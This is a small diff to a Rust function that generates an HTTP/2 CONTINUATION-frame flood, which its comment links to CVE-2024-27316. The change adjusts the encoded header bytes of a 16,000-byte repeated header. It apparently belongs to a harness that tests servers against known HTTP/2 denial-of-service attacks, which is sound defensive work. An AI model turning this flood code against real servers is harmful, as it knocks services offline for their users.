@@ -88,8 +88,8 @@ pub(crate) fn reset_streams(addr: &str, headers: &[u8]) {
 
 /// CVE-2024-27316 and similar attacks.
 pub(crate) fn continuation_flood(addr: &str) {
-    // A header of 16 KiB, repeated, never indexed.
-    let mut header = b"\x10\x01x\x7f\xd1\x7e".to_vec();
+    // A header of 16 KB, repeated, never indexed: its value fills the frame.
+    let mut header = b"\x10\x01x\x7f\xfb\x7b".to_vec();
     header.resize(16_000, b'a');
     for _ in 0..5 {
         let mut stream = http2(addr);
